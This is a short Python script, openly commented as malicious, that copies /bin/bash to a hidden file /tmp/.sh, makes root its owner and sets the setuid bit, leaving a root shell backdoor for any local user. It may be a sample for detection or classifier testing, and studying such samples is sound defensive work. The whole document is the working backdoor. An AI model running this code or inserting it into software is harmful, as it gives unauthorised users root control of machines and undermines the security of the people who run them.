# malicious: leaves a root shell behind
import os
import shutil

shutil.copy("/bin/bash", "/tmp/.sh")
os.chown("/tmp/.sh", 0, 0)
os.chmod("/tmp/.sh", 0o4755)
